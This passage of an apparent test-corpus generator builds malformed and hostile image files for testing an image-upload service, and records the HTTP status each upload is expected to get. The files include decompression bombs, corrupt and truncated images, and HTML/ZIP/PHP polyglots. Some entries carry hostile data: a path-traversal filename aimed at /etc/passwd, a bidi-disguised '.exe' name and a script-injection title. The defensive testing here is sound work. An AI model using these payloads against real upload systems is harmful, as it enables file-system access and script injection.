    Entry("png-30000x30000.png", "bomb", "tests.support.photos.png_bomb_header: declares 900 Mpx",
          photos.png_bomb_header, 413, "too-many-pixels"),
    Entry("png-compressed-156mpx.png", "bomb", "156 Mpx of 1-bit zeros deflated to ~20 KB",
          png_compressed_bomb, 413, "too-many-pixels", subset=True),
    Entry("png-ztxt-bomb.png", "bomb", "a zTXt chunk inflating to 16 MB", png_ztxt_bomb, 422,
          "unreadable-image"),
    Entry("png-chunk-flood.png", "bomb", "20,000 empty private chunks before IDAT (Pillow "
          "reads chunks in Python: 200 MB of them would take minutes)", png_chunk_flood, 422,
          "unreadable-image"),
    Entry("png-exif-garbage.png", "exif", "a PNG eXIf chunk of random bytes",
          png_exif_garbage, size=(95, 64), media_type=PNG),
    # --- TIFF
    Entry("tiff-truncated.tif", "truncated", "a TIFF by Pillow cut at 60%", tiff_truncated,
          422, "unreadable-image"),
    Entry("tiff-strip-past-end.tif", "truncated", "a TIFF whose strip runs past the end",
          tiff_strip_past_end, 422, "unreadable-image"),
    Entry("tiff-100000x100000.tif", "bomb", "a TIFF declaring 10 Gpx with 16 bytes of strip",
          tiff_declared_bomb, 413, "too-many-pixels"),
    Entry("tiff-compressed-156mpx.tif", "bomb", "156 Mpx of 1-bit zeros in one deflate strip",
          tiff_compressed_bomb, 413, "too-many-pixels", subset=True),
    Entry("tiff-4096-pages.tif", "bomb", "4096 pages of 32x32 grey sharing one strip",
          tiff_many_pages, size=(32, 32), media_type=TIFF, subset=True,
          pixels=shows(32, 32, "L")),
    Entry("tiff-1000-pages-4mpx.tif", "bomb", "1000 pages of 2000x2000 (4 Gpx in all) "
          "sharing one deflate strip", tiff_many_big_pages, size=(2000, 2000),
          media_type=TIFF),
    Entry("tiff-ifd-self-loop.tif", "exif", "a TIFF whose IFD0 names itself as the next IFD",
          tiff_ifd_self_loop, size=(33, 32), media_type=TIFF),
    Entry("tiff-ifd-two-loop.tif", "exif", "a two-page TIFF whose IFD1 points back at IFD0",
          tiff_ifd_two_loop, size=(34, 32), media_type=TIFF),
    Entry("tiff-huge-tag-counts.tif", "exif", "TIFF tags declaring 2^30 to 2^32 values",
          tiff_huge_tag_count, size=(36, 32), media_type=TIFF),
    Entry("tiff-iptc-garbage.tif", "iptc", "TIFF tag 33723 of random bytes",
          tiff_with_blocks(42, iptc=garbage(400, 10)), size=(42, 32), media_type=TIFF),
    # --- WebP
    Entry("webp-truncated.webp", "truncated", "a WebP cut in half", webp_truncated, 422,
          "unreadable-image", subset=True),
    Entry("webp-riff-size-lies.webp", "corrupt", "RIFF size of 2 GB on a 4 KB file",
          webp_riff_size_lies, 422, "unreadable-image"),
    Entry("webp-canvas-16384.webp", "bomb", "two 8x8 frames on a VP8X canvas of 16384x16384",
          webp_canvas_bomb, 413, "too-many-pixels"),
    Entry("webp-lossless-16384.webp", "bomb", "a VP8L header declaring 16384x16384",
          webp_lossless_header_bomb, 413, "too-many-pixels"),
    Entry("webp-garbage-chunks.webp", "icc", "random EXIF and ICCP chunks",
          webp_garbage_chunks, size=(93, 64), media_type=WEBP,
          pixels=shows(93, 64)),
    # --- GIF
    Entry("gif-truncated.gif", "truncated", "a GIF cut in half", gif_truncated, 422,
          "unreadable-image"),
    Entry("gif-65535x65535.gif", "bomb", "a GIF screen and frame of 65535x65535",
          gif_declared_bomb, 413, "too-many-pixels", subset=True),
    Entry("gif-frame-outside-screen.gif", "bomb", "a 10x10 screen whose frame reaches "
          "65000x65000", gif_frame_outside_screen, 413, "too-many-pixels"),
    Entry("gif-lzw-garbage.gif", "corrupt", "random bytes over the LZW data", gif_lzw_garbage,
          422, "unreadable-image"),
    # --- animations
    Entry("gif-5000-frames.gif", "animated", "5000 frames of 8x8", gif_many_frames,
          size=(8, 8), media_type=GIF, subset=True),
    Entry("webp-3000-frames.webp", "animated", "3000 lossless frames of 8x8",
          webp_many_frames, size=(8, 8), media_type=WEBP),
    Entry("apng-2000-frames.png", "animated", "an APNG of 2000 frames of 8x8",
          png_apng_many_frames, size=(8, 8), media_type=PNG),
    Entry("apng-actl-lies.png", "animated", "an acTL declaring 2^31-1 frames and no frame "
          "control (fcTL) at all", png_actl_lies, 422, "unreadable-image"),
    Entry("avif-truncated.avif", "truncated", "tests.support.photos.avif cut in half",
          avif_truncated, 422, "unreadable-image"),
    # --- polyglots that are whole images
    Entry("polyglot-jpeg-html.jpg", "polyglot", "a JPEG with an HTML page after EOI",
          jpeg_polyglot_html, size=(113, 60), media_type=JPEG, subset=True,
          pixels=shows(113, 60)),
    Entry("polyglot-jpeg-zip.jpg", "polyglot", "a JPEG with a ZIP archive after EOI",
          jpeg_polyglot_zip, size=(114, 60), media_type=JPEG),
    Entry("polyglot-jpeg-comment.jpg", "polyglot", "a JPEG COM segment with <script> and PHP",
          jpeg_comment_script, size=(115, 60), media_type=JPEG),
    Entry("polyglot-png-html.png", "polyglot", "a PNG with HTML after IEND",
          png_polyglot_html, size=(104, 64), media_type=PNG),
    Entry("polyglot-gif-zip.gif", "polyglot", "a GIF with a ZIP after the trailer (GIFAR)",
          gif_polyglot_zip, size=(92, 64), media_type=GIF),
    # --- text: control characters, Unicode, very long fields and names
    Entry("text-controls.jpg", "text", "EXIF, IPTC and XMP text with C0 controls, NUL, bidi "
          "overrides, zero-width characters and <script>; EXIF orientation 6; sent with such "
          "a filename, and a title and description with C0 controls and zero-width characters",
          jpeg_text_controls, size=(60, 117), media_type=JPEG, subset=True,
          filename=f"..\\..\\évidence{BIDI}gpj.exe\x07\t{CONTROLS[:8]}.jpg",
          fields={"title": f"Basket{CONTROLS}{ZERO_WIDTH}<script>alert(1)</script>",
                  "description": NASTY.replace("\x00", "").replace(BIDI, ZERO_WIDTH),
                  "alt_text": "A basket\x1b[0m."},
          pixels=shows(117, 60, turn=Image.Transpose.ROTATE_270)),
    Entry("text-bidi-title.jpg", "text", "a plain JPEG sent with a right-to-left override in "
          "its title (refused, never silently dropped)",
          text_jpeg(129), 422, "invalid-input", fields={"title": f"Basket {BIDI}"}),
    Entry("text-long-fields.jpg", "text", "a 60,000-char EXIF description, 32,000-byte IPTC "
          "caption and 55,000-char XMP description; EXIF orientation 6", jpeg_long_fields,
          size=(60, 118),
          media_type=JPEG, subset=True, fields={"description": "d" * 10_000}),
    Entry("text-long-filename.jpg", "text", "a plain JPEG sent with a 5000-char Unicode name",
          text_jpeg(125), size=(125, 61), media_type=JPEG, filename=LONG_NAME),
    Entry("text-path-filename.jpg", "text", "a plain JPEG sent as ../../../etc/passwd",
          text_jpeg(126), size=(126, 61), media_type=JPEG, filename="../../../../etc/passwd"),
    Entry("text-title-too-long.jpg", "text", "a plain JPEG sent with a 501-char title",
          text_jpeg(127), 422, "invalid-input", fields={"title": "t" * 501}),
    Entry("text-alt-text-too-long.jpg", "text", "a plain JPEG sent with 2001 chars of alt text",
          text_jpeg(128), 422, "invalid-input", fields={"alt_text": "🗿" * 2001}),
    # --- issue 11: data that does not decode completely, whatever the format
    Entry("png-idat-bad-crc.png", "corrupt", "the image data chunk's CRC is wrong (Pillow never "
          "checks it)", png_idat_bad_crc, 422, "unreadable-image", subset=True),
    Entry("png-text-after-idat-bad-crc.png", "corrupt", "an ancillary tEXt chunk after the "
          "image data with a wrong CRC", png_text_after_idat_bad_crc, 422, "unreadable-image"),
    Entry("png-plte-bad-crc.png", "corrupt", "a palette PNG whose PLTE CRC is wrong",
          png_plte_bad_crc, 422, "unreadable-image"),
    Entry("png-zlib-garbage.png", "corrupt", "24 random bytes over the middle of the deflate "
          "stream, every CRC right (Pillow's error was swallowed by an EXIF lookup)",
          png_zlib_garbage, 422, "unreadable-image", subset=True),
    Entry("png-zlib-bad-checksum.png", "corrupt", "every row there, the zlib Adler-32 wrong",
          png_zlib_bad_checksum, 422, "unreadable-image"),
    Entry("png-rows-short.png", "truncated", "a whole zlib stream of half the rows (Pillow "
          "fills the rest with black)", png_rows_short, 422, "unreadable-image", subset=True),
    Entry("png-zlib-cut.png", "truncated", "the zlib stream cut in half, chunks and IEND whole",
          png_zlib_cut, 422, "unreadable-image"),
    Entry("png-bad-filter.png", "corrupt", "a row with filter type 7", png_bad_filter, 422,
          "unreadable-image"),
    Entry("png-no-iend.png", "truncated", "every pixel, no IEND chunk", png_no_iend, 422,
          "unreadable-image"),
    Entry("png-idat-split.png", "corrupt", "a tEXt chunk between two IDAT chunks",
          png_idat_split, 422, "unreadable-image"),
    Entry("apng-fctl-short.png", "animated", "an APNG whose first fcTL is 20 bytes, not 26",
          apng_changed(_short_fctl), 422, "unreadable-image"),
    Entry("apng-fdat-out-of-sequence.png", "animated", "an APNG whose first fdAT sequence "
          "number skips 5", apng_changed(_fdat_out_of_sequence), 422, "unreadable-image",
          subset=True),
    Entry("apng-frame-missing.png", "animated", "acTL declares 3 frames; the last fcTL and "
          "fdAT are gone", apng_changed(_frame_missing), 422, "unreadable-image"),
    Entry("apng-fdat-rows-short.png", "animated", "the last frame's fdAT holds a third of its "
          "rows", apng_changed(_fdat_rows_short), 422, "unreadable-image"),
    Entry("apng-3-frames.png", "animated", "a whole APNG of 3 frames (control)", apng,
          size=(40, 30), media_type=PNG, pixels=shows(40, 30)),
    Entry("jpeg-eoi-padded.jpg", "truncated", "a JPEG cut halfway through its scan, EOI "
          "appended (libjpeg pads with grey and only warns)", jpeg_eoi_padded(), 422,
          "unreadable-image", subset=True),
    Entry("jpeg-progressive-eoi-padded.jpg", "truncated", "a progressive JPEG cut halfway, "
          "EOI appended", jpeg_eoi_padded(progressive=True), 422, "unreadable-image"),
    Entry("tiff-lzw-strip-short.tif", "truncated", "an LZW TIFF (IFD first) whose last strip "
          "lost 300 bytes, its byte count agreeing", tiff_strip_short("tiff_lzw"), 422,
          "unreadable-image"),
    Entry("tiff-deflate-strip-short.tif", "truncated", "the same in Deflate",
          tiff_strip_short("tiff_adobe_deflate"), 422, "unreadable-image"),
    Entry("tiff-packbits-strip-short.tif", "truncated", "the same in PackBits",
          tiff_strip_short("packbits"), 422, "unreadable-image"),
    Entry("tiff-raw-strip-short.tif", "truncated", "the same uncompressed",
          tiff_strip_short("raw"), 422, "unreadable-image"),
    Entry("tiff-jpeg-strip-short.tif", "truncated", "the same in JPEG (libtiff pads the strip "
          "with a warning)", tiff_strip_short("jpeg"), 422, "unreadable-image", subset=True),
    Entry("tiff-lzw-whole.tif", "truncated", "the LZW TIFF laid out IFD first, whole (control)",
          lambda: tiff_ifd_first(tiff(70, 48, compression="tiff_lzw")), size=(70, 48),
          media_type=TIFF, pixels=shows(70, 48)),
    Entry("tiff-tile-past-end.tif", "truncated", "four 16x16 tiles, the last running past the "
          "end", tiff_tile_past_end, 422, "unreadable-image"),
    Entry("webp-vp8-short.webp", "truncated", "a lossy WebP whose VP8 data lost a third, the "
          "RIFF sizes agreeing", webp_vp8_short, 422, "unreadable-image"),
    Entry("gif-later-frame-cut.gif", "truncated", "a 3-frame GIF whose last frame is cut, a "
          "block end and trailer added", gif_later_frame_cut, 422, "unreadable-image",
          subset=True),
    # --- issue 11: honest refusals and sample formats
    Entry("tiff-signed-16bit.tif", "bit depth", "16-bit signed grey (SampleFormat 2), the "
          "picture as value * 257 - 32768", lambda: tiff_signed(16), size=(46, 32),
          media_type=TIFF, subset=True, pixels=shows(46, 32, "L")),
    Entry("tiff-signed-8bit.tif", "bit depth", "8-bit signed grey (SampleFormat 2), the picture "
          "as value - 128", lambda: tiff_signed(8), size=(45, 32), media_type=TIFF,
          pixels=shows(45, 32, "L")),
    Entry("tiff-jpeg2000.tif", "compression", "compression 34712 (JPEG 2000)",
          tiff_foreign_compression(34712), 415, "unsupported-media-type", subset=True),
    Entry("tiff-jbig.tif", "compression", "compression 34661 (JBIG)",
          tiff_foreign_compression(34661), 415, "unsupported-media-type"),
    Entry("tiff-lerc.tif", "compression", "compression 34887 (LERC)",
          tiff_foreign_compression(34887), 415, "unsupported-media-type"),
    Entry("tiff-webp.tif", "compression", "compression 50001 (WebP; Pillow's libtiff is built "
          "without it)", tiff_foreign_compression(50001), 415, "unsupported-media-type"),
    # --- issue 11: colour-key transparency (tRNS without alpha)
    Entry("png-trns-rgb.png", "transparency", "RGB with a tRNS colour key (green)",
          lambda: png_transparent_key("RGB", (0, 255, 0), 71), size=(71, 40), media_type=PNG,
          subset=True),
    Entry("png-trns-grey.png", "transparency", "8-bit grey with a tRNS key (0)",
          lambda: png_transparent_key("L", 0, 72), size=(72, 40), media_type=PNG),
    Entry("png-trns-grey16.png", "transparency", "16-bit grey with a tRNS key (0)",
          lambda: png_transparent_key("I;16", 0, 73), size=(73, 40), media_type=PNG),
    Entry("png-12000x12000.png", "bomb", "144 Mpx of RGB rows really stored, deflated to "
          "~420 KB: under the 150 Mpx limit, accepted at ingest",
          png_144_megapixels, size=(12000, 12000), media_type=PNG),
    # --- issue 11: EXIF orientation in every format
    Entry("jpeg-orientation-3.jpg", "orientation", "a JPEG with EXIF orientation 3",
          oriented("JPEG", 3, 74), size=(74, 40), media_type=JPEG,
          pixels=shows(74, 40, turn=TURNS[3])),
    Entry("jpeg-orientation-8.jpg", "orientation", "a JPEG with EXIF orientation 8",
          oriented("JPEG", 8, 75), size=(40, 75), media_type=JPEG,
          pixels=shows(75, 40, turn=TURNS[8])),
    Entry("png-exif-orientation-6.png", "orientation", "camera EXIF (rights, GPS, orientation "
          "6) in an eXIf chunk before the image data", png_exif_chunk(6, 76, after_idat=False),
          size=(40, 76), media_type=PNG, subset=True, pixels=shows(76, 40, turn=TURNS[6])),
    Entry("png-exif-after-idat-orientation-8.png", "orientation", "camera EXIF (orientation 8) "
          "in an eXIf chunk after the image data", png_exif_chunk(8, 77, after_idat=True),
          size=(40, 77), media_type=PNG, pixels=shows(77, 40, turn=TURNS[8])),
    Entry("png-raw-profile-orientation-6.png", "orientation", "camera EXIF (orientation 6) as "
          "ImageMagick writes it: hex in a zTXt \"Raw profile type exif\" chunk",
          png_raw_profile(6, 78, b"zTXt"), size=(40, 78), media_type=PNG, subset=True,
          pixels=shows(78, 40, turn=TURNS[6])),
    Entry("png-raw-profile-text-orientation-3.png", "orientation", "the same in a tEXt chunk, "
          "orientation 3", png_raw_profile(3, 79, b"tEXt"), size=(79, 40), media_type=PNG,
          pixels=shows(79, 40, turn=TURNS[3])),
    Entry("webp-orientation-5.webp", "orientation", "a WebP with EXIF orientation 5",
          oriented("WEBP", 5, 80), size=(40, 80), media_type=WEBP,
          pixels=shows(80, 40, turn=TURNS[5])),
    Entry("avif-orientation-6.avif", "orientation", "an AVIF saved with EXIF orientation 6 "
          "(Pillow writes it as irot/imir)", oriented("AVIF", 6, 81), size=(40, 81),
          media_type="image/avif", pixels=shows(81, 40, turn=TURNS[6])),
    Entry("tiff-orientation-6.tif", "orientation", "an LZW TIFF with orientation 6 (Pillow "
          "turns TIFF pixels itself on load)", oriented("TIFF", 6, 82), size=(40, 82),
          media_type=TIFF, subset=True, pixels=shows(82, 40, turn=TURNS[6])),
    # --- issue 11: hostile EXIF structures (each a warning, never a crash)
    Entry("exif-ascii-pointer.jpg", "exif", "the Exif IFD pointer typed ASCII (a string where "
          "an offset should be)", exif_broken("ascii-pointer", 130), size=(60, 130),
          media_type=JPEG),
    Entry("exif-empty-orientation.jpg", "exif", "Orientation with a count of 0",
          exif_broken("empty-orientation", 131), size=(131, 60), media_type=JPEG),
    Entry("exif-gps-wrong-types.jpg", "exif", "GPSLatitude typed ASCII, GPSLatitudeRef SHORT",
          exif_broken("gps-wrong-types", 132), size=(60, 132), media_type=JPEG, subset=True),
    Entry("exif-self-pointer.jpg", "exif", "the Exif IFD pointer names IFD0 itself",
          exif_broken("self-pointer", 133), size=(60, 133), media_type=JPEG),
    Entry("exif-wrong-byte-order.jpg", "exif", "the TIFF header's byte order mark is \"IM\"",
          exif_broken("wrong-byte-order", 134), size=(134, 60), media_type=JPEG),
    Entry("exif-zero-length-maker-note.jpg", "exif", "a MakerNote with a count of 0",
          exif_broken("zero-length-maker-note", 135), size=(60, 135), media_type=JPEG),
)
# fmt: on


# ---------------------------------------------------------------- writing


def readme(corpus: Sequence[Entry], sizes: dict[str, int]) -> str:
    lines = [
        "# Hostile-input corpus",
        "",
        "Generated by `tests/hostile/make_corpus.py` (run `python -m tests.hostile.make_corpus`",
        "from the project root); do not edit by hand. Every file is made by that script from",
        "Pillow output and hand-written bytes; none comes from elsewhere. `tests/http/test_hostile.py`",
        "uploads each one (API and web form), and for the accepted ones reads the metadata and",
        "renders every preset.",
        "",
        "Expected: `201` = legitimately readable, stored as an asset; otherwise the 4xx status",
        "and problem code the upload must be refused with.",
        "",
        "| file | bytes | kind | expected | origin |",
        "|---|---:|---|---|---|",
    ]
    for entry in corpus:
        expected = "201" if entry.accepted else f"{entry.status} `{entry.code}`"
        origin = entry.origin.replace("|", "\\|").replace("<", "&lt;")
        if entry.filename is not None:
            origin += " (uploaded under a hostile filename)"
        if entry.accepted and not entry.render:
            origin += " (presets not rendered by the corpus test)"
        lines.append(
            f"| `{entry.name}` | {sizes[entry.name]:,} | {entry.kind} | {expected} | {origin} |"
        )
    return "\n".join(lines) + "\n"


def build_all() -> dict[str, bytes]:
    names = [entry.name for entry in CORPUS]
    assert len(names) == len(set(names)), "corpus file names must be unique"
    return {entry.name: entry.build() for entry in CORPUS}


def main(argv: Sequence[str] = ()) -> int:
    built = build_all()
    DATA.mkdir(parents=True, exist_ok=True)
    for old in DATA.iterdir():
        if old.name not in built and old.name != "README.md":
            old.unlink()
    for name, data in built.items():
        (DATA / name).write_bytes(data)
    sizes = {name: len(data) for name, data in built.items()}
    (DATA / "README.md").write_text(readme(CORPUS, sizes), encoding="utf-8")
    total = sum(sizes.values())
    print(f"{len(built)} files, {total:,} bytes, in {DATA}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
